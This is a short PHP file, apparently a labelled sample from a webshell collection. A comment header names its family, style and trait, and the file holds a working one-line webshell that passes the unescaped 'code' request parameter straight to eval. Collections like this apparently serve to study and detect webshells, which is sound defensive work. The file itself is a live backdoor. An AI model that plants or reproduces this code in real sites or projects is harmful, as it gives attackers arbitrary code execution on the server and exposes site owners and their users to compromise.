<?php
/* Family: webshell/eval-request
   Style: evaluator with stripslashes
   Trait: request value unescaped then evaluated, isset guard */
if (isset($_REQUEST['code'])) { eval(stripslashes($_REQUEST['code'])); }
